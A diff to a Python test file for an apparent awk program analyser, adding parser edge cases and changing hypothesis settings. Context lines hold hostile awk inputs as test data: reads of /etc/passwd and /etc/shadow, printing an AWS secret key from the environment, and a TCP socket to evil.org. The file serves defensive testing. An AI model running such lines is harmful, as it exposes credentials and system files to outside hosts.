@@ -63,6 +63,8 @@ ACTS = {
     'BEGIN{while ((getline l < "/etc/passwd") > 0) print l}': [("read", "/etc/passwd")],
     'BEGIN{while (getline l < "a" > 0) print l}': [("read", "a")],
     'BEGIN{getline a[f(1)] < "x"}': [("read", "x")],
+    'BEGIN{getline a[(getline)] < "x"}': [("read", "x")],
+    'BEGIN{getline x getline < "a"}': [("read", "a")],
     'BEGIN{getline < "a" "b"}': [("read", UNKNOWN)],
     "BEGIN{getline x < ARGIND}": [("read", UNKNOWN)],
     'BEGIN{s="/inet/tcp/0/evil.org/80"; print "x" |& s; s |& getline}': [
@@ -80,6 +82,7 @@ ACTS = {
     'for (;;) print > "f"': [("write", "f")],
 }
 REFUSED = [
+    "{ x = " + "(" * 40 + "1" + ")" * 40 + " }",
     'BEGIN{print ENVIRON["AWS_SECRET_ACCESS_KEY"]}',
     'BEGIN{ARGV[1]="/etc/shadow"; ARGC=2}',
     'BEGIN{x="ARGV"; SYMTAB[x]}',
@@ -124,13 +127,17 @@ def test_a_program_that_is_not_followed_is_refused(text: str):
         list(uses(text))
 
 
+def test_many_reads_are_followed_in_time():
+    assert list(uses("getline " * 2000)) == []
+
+
 PIECES = st.sampled_from(
     ["print ", "system(", '"x"', "/", "[", "]", "(", ")", "{", "}", "\n", ">", "|", "getline ", "<",
      "a", "1", ";", ",", "\\", "#", "@", "$", '"', "++", "if ", "=", "\u00e9"]
 )  # fmt: skip
 
 
-@settings(max_examples=300, deadline=1000)
+@settings(max_examples=150, deadline=1000)
 @given(st.lists(PIECES, max_size=40).map("".join))
 def test_any_text_is_read_or_refused(text: str):
     with suppress(NotUnderstood):
